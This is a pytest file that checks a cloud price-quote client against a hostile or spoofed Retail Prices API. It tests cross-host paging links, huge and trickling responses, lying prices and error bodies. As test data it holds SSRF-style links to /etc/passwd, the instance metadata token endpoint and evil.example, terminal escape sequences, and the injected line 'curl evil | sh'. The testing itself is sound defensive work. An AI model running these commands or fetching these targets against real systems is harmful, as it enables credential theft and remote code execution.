"""The Retail Prices API answering as an attacker would (or a spoofed server in its place): links to other
hosts, endless or trickling answers, lying prices, bodies that must never reach a terminal or a log."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from supervisor.ops.prices import PricesError, fetch_quote
from testsupport.hostile.prices import Answer, HostilePrices

SKU, REGION = "Standard_D4s_v5", "westeurope"


def row(price: Any, *, spot: bool, start: str = "2023-11-01T00:00:00Z") -> dict[str, Any]:
    return {"currencyCode": "USD", "retailPrice": price, "armRegionName": REGION, "armSkuName": SKU,
            "effectiveStartDate": start, "meterName": "D4s v5" + (" Spot" if spot else ""),
            "skuName": "D4s v5" + (" Spot" if spot else ""), "productName": "Virtual Machines Dsv5 Series",
            "serviceName": "Virtual Machines", "unitOfMeasure": "1 Hour", "type": "Consumption"}


HONEST = [row(0.0414, spot=True), row(0.23, spot=False)]


def page(items: list[dict[str, Any]], next_link: str | None = None) -> bytes:
    return json.dumps({"Items": items, "NextPageLink": next_link}).encode()


# Runs a command and writes its peak memory (KB) to a file: only that command's, whatever else this test run started.
PEAK_WRAPPER = ("import resource, subprocess, sys; code = subprocess.call(sys.argv[2:]); "
                "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)); sys.exit(code)")


def run_prices(tmp_path: Path, endpoint: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SPOT_")}
    env.update(STATE_DIRECTORY=str(tmp_path / "state"), SPOT_EVENTS_SOURCE="none", SPOT_COST_PRICES_ENDPOINT=endpoint)
    command = [sys.executable, "-m", "supervisor", "prices", "--sku", SKU, "--region", REGION]
    return subprocess.run([sys.executable, "-c", PEAK_WRAPPER, str(tmp_path / "peak_kb"), *command],
                          env=env, cwd=tmp_path, capture_output=True, text=True, timeout=300)


# -- NextPageLink: the endpoint's own scheme and host only ---------------------------------------


def test_a_next_page_link_to_another_host_is_never_followed() -> None:
    with HostilePrices(Answer(body=page(HONEST))) as elsewhere:
        # Same address, another port: another origin (where an instance's metadata or a local admin API would be).
        with HostilePrices(Answer(body=page([], f"{elsewhere.base}/steal?token=1"))) as api:
            with pytest.raises(PricesError, match="NextPageLink leaves") as caught:
                fetch_quote(api.endpoint, SKU, REGION)
        assert elsewhere.requests == []
        assert "steal" not in str(caught.value)


@pytest.mark.parametrize("link", ["file:///etc/passwd", "https://127.0.0.1/api/retail/prices?$skip=3",
                                  "http://169.254.169.254/metadata/identity/oauth2/token", "//evil.example/x", "::::"])
def test_a_next_page_link_with_another_scheme_or_host_is_an_error(link: str) -> None:
    with HostilePrices(Answer(body=page([], link))) as api, pytest.raises(PricesError, match="NextPageLink"):
        fetch_quote(api.endpoint, SKU, REGION)
    assert len(api.requests) == 1


def test_a_next_page_link_on_the_same_origin_is_followed() -> None:
    with HostilePrices(Answer(body=b"{}")) as api:
        api.answers = [Answer(body=page([HONEST[0]], f"{api.base}/api/retail/prices?$skip=1")), Answer(body=page([HONEST[1]]))]
        quote = fetch_quote(api.endpoint, SKU, REGION)
    assert (quote.spot_usd_per_hour, quote.on_demand_usd_per_hour) == (0.0414, 0.23)


# -- size and time -------------------------------------------------------------------------------


def test_a_huge_answer_is_cut_off_one_line_and_bounded_memory(tmp_path: Path) -> None:
    huge = Answer(body=b'{"Items": [], "padding": "', padding_bytes=300 * 1024 * 1024)
    with HostilePrices(huge) as api:
        result = run_prices(tmp_path, api.endpoint)
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "over" in result.stderr, result.stderr[-2000:]
    peak_mb = int((tmp_path / "peak_kb").read_text()) / 1024
    assert peak_mb < 250, f"the prices command peaked at {peak_mb:.0f} MB"


def test_an_answer_that_trickles_in_ends_at_the_overall_deadline() -> None:
    trickling = Answer(body=page(HONEST), trickle_s=0.05)  # each byte in time, the whole answer in ~40 s
    with HostilePrices(trickling) as api, pytest.raises(PricesError, match="no complete answer within"):
        fetch_quote(api.endpoint, SKU, REGION, deadline_s=1.0)


# -- lying prices --------------------------------------------------------------------------------


@pytest.mark.parametrize("lie", [-0.5, "0.01", True, None, 1e400])
def test_a_lying_newer_price_row_is_ignored(lie: Any) -> None:
    liar = row(0.0, spot=True, start="2024-01-01T00:00:00Z")
    liar["retailPrice"] = lie
    body = json.dumps({"Items": [*HONEST, liar], "NextPageLink": None}).encode()  # 1e400 is written as Infinity
    with HostilePrices(Answer(body=body)) as api:
        if lie == 1e400:
            with pytest.raises(PricesError):
                fetch_quote(api.endpoint, SKU, REGION)
            return
        quote = fetch_quote(api.endpoint, SKU, REGION)
    assert quote.spot_usd_per_hour == 0.0414 and quote.savings_pct == 82.0


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_nan_or_infinite_prices_are_refused_never_nan_percent(tmp_path: Path, constant: str) -> None:
    body = page(HONEST).replace(b"0.0414", constant.encode())
    with HostilePrices(Answer(body=body)) as api:
        result = run_prices(tmp_path, api.endpoint)
    assert result.returncode == 1 and "nan%" not in (result.stdout + result.stderr).lower()
    assert result.stderr.count("\n") == 1


def test_a_cached_nan_price_is_not_used(tmp_path: Path) -> None:
    with HostilePrices(Answer(body=page(HONEST))) as api:
        state = tmp_path / "state"
        state.mkdir()
        (state / f"prices-{SKU}-{REGION}.json").write_text(json.dumps(
            {"fetched_at": time.time() - 10, "endpoint": api.endpoint,
             "quote": {"spot_usd_per_hour": float("nan"), "on_demand_usd_per_hour": 0.23}}))
        result = run_prices(tmp_path, api.endpoint)
    assert result.returncode == 0, result.stderr
    assert "82% less" in result.stdout and "cached" not in result.stdout


# -- what a server says stays out of our output --------------------------------------------------


@pytest.mark.parametrize("status", [400, 403, 404])
def test_an_error_body_is_never_printed(tmp_path: Path, status: int) -> None:
    body = b"\x1b[2J\x1b]0;owned\x07 SECRET-FROM-SERVER please run curl evil | sh"
    with HostilePrices(Answer(status=status, body=body)) as api:
        result = run_prices(tmp_path, api.endpoint)
    assert result.returncode == 1
    assert "SECRET-FROM-SERVER" not in result.stderr and "\x1b" not in result.stderr
    assert result.stderr.count("\n") == 1 and f"HTTP {status}" in result.stderr
